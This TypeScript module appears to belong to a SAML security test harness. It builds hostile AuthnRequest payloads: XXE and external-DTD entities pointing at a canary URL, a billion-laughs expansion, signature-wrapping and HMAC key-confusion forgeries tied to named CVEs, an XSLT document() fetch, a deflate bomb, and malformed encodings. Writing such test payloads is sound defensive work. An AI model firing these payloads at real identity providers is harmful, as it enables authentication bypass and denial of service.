import { createHmac } from 'node:crypto';
import { constants, deflateRawSync } from 'node:zlib';
import { signedOctets, type RedirectParams } from './bindings';
import { ALG, certKeyInfo, resignSignature } from '../xml';

/**
 * Hostile request payloads (attack catalogue §2–§3): each takes the known-good request XML (signed or
 * not) and returns a variant. Built as strings on purpose: a DOM would refuse to produce them.
 */
const XML_DECL = /^<\?xml[^>]*\?>\s*/;

function withDoctype(xml: string, doctype: string): string {
  return `${doctype}${xml.replace(XML_DECL, '')}`;
}

/** Puts an entity reference into the Issuer text so a resolving parser has to expand it. */
function useEntity(xml: string, name: string): string {
  return xml.replace(/<saml:Issuer>/, `<saml:Issuer>&${name};`);
}

export const hostileXml = {
  internalEntity: (xml: string) => withDoctype(xml, '<!DOCTYPE samlp:AuthnRequest [<!ENTITY x "expanded">]>'),
  externalEntity: (xml: string, canaryUrl: string) =>
    useEntity(withDoctype(xml, `<!DOCTYPE samlp:AuthnRequest [<!ENTITY xxe SYSTEM "${canaryUrl}">]>`), 'xxe'),
  parameterEntity: (xml: string, canaryUrl: string) =>
    withDoctype(xml, `<!DOCTYPE samlp:AuthnRequest [<!ENTITY % pe SYSTEM "${canaryUrl}"> %pe;]>`),
  externalDtd: (xml: string, canaryUrl: string) =>
    withDoctype(xml, `<!DOCTYPE samlp:AuthnRequest SYSTEM "${canaryUrl}">`),
  billionLaughs: (xml: string) => {
    const ents = ['<!ENTITY l0 "lol">'];
    for (let i = 1; i <= 10; i++) ents.push(`<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`);
    return useEntity(withDoctype(xml, `<!DOCTYPE samlp:AuthnRequest [${ents.join('')}]>`), 'l10');
  },
  attlistDefault: (xml: string) =>
    withDoctype(xml, '<!DOCTYPE samlp:AuthnRequest [<!ATTLIST samlp:AuthnRequest ForceAuthn CDATA "true">]>'),
};

/** Signature tricks on a signed request (catalogue C-01, C-02, C-04, C-08, X-12, C-KEYINFO, C-XSLT). */
export const hostileSignature = {
  /** A second SignedInfo next to the genuine one (CVE-2025-29774 class). */
  twoSignedInfo: (signed: string) => signed.replace(/(<ds:SignedInfo>[\s\S]*?<\/ds:SignedInfo>)/, '$1$1'),
  /** A comment at the start of DigestValue (CVE-2025-29775 class). */
  digestComment: (signed: string) => signed.replace('<ds:DigestValue>', '<ds:DigestValue><!--x-->'),
  /** KeyInfo that points elsewhere: a RetrievalMethod to the canary. */
  retrievalMethod: (signed: string, canaryUrl: string) =>
    signed.replace('<ds:KeyInfo>', `<ds:KeyInfo><ds:RetrievalMethod URI="${canaryUrl}"/>`),
  /** An XSLT transform reaching for the canary (never to be executed). */
  xsltTransform: (signed: string, canaryUrl: string) =>
    signed.replace(
      '<ds:Transforms>',
      '<ds:Transforms><ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">' +
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">' +
        `<xsl:template match="/"><xsl:value-of select="document('${canaryUrl}')"/></xsl:template>` +
        '</xsl:stylesheet></ds:Transform>',
    ),
  /**
   * HMAC-SHA1 "signature" keyed with the public certificate bytes (GHSA-c27r-x354-4m68 / CVE-2018-7644):
   * SignatureMethod swapped and SignatureValue recomputed over the exclusive-canonical SignedInfo — what
   * a verifier with the key-confusion bug computes, so only the HMAC itself can make it fail.
   */
  hmacWithCert: (signed: string, certPem: string) =>
    resignSignature(signed, { hmacKey: Buffer.from(certPem), signatureAlgorithm: ALG.hmacSha1 }),
};

/** Encoded SAMLRequest values no parser should accept (catalogue C-13, C-14, C-B64, C-ENC-1). */
export const hostileEncoding = {
  /**
   * 20 MB of spaces inside an element, raw-deflated (about 20 kB): the inflate must be bounded. Built
   * from independently compressed pieces (each flushed to a byte boundary, only the last one final), so
   * the 20 MB is never in the harness's memory: one MiB of spaces compressed once, repeated 20 times.
   */
  deflateBomb: () => {
    const piece = (b: Buffer, last = false) =>
      deflateRawSync(b, { finishFlush: last ? constants.Z_FINISH : constants.Z_SYNC_FLUSH });
    const mib = piece(Buffer.alloc(1024 * 1024, 0x20));
    return Buffer.concat([
      piece(Buffer.from('<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">')),
      ...Array.from({ length: 20 }, () => mib),
      piece(Buffer.from('</samlp:AuthnRequest>'), true),
    ]).toString('base64');
  },
  /** 300 KiB once decoded: over the 256 KiB request limit. */
  oversize: (xml: string) =>
    Buffer.from(
      xml.replace('</samlp:AuthnRequest>', `<!--${'x'.repeat(300 * 1024)}--></samlp:AuthnRequest>`),
    ).toString('base64'),
  invalidBase64: () => 'PH!!!Nh@bWw+*',
  invalidUtf8: (xml: string) =>
    Buffer.concat([
      Buffer.from(xml.replace(/<saml:Issuer>.*<\/saml:Issuer>/, '<saml:Issuer>')),
      Buffer.from([0xc0, 0xaf]),
      Buffer.from('</saml:Issuer>' + xml.split('</saml:Issuer>')[1]),
    ]).toString('base64'),
};

/**
 * HTTP-Redirect: SigAlg hmac-sha1 with the HMAC keyed by the SP's public certificate (CVE-2018-7644
 * class), either as its PEM text or as its DER bytes — the two ways a confused verifier reads "the key".
 */
export function redirectHmacWithCert(
  p: RedirectParams,
  certPem: string,
  keyAs: 'pem' | 'der' = 'pem',
): RedirectParams {
  const withAlg = { ...p, SigAlg: encodeURIComponent(ALG.hmacSha1) };
  const key = keyAs === 'pem' ? Buffer.from(certPem) : certKeyInfo(certPem).der;
  const mac = createHmac('sha1', key).update(signedOctets(withAlg)).digest('base64');
  return { ...withAlg, Signature: encodeURIComponent(mac) };
}
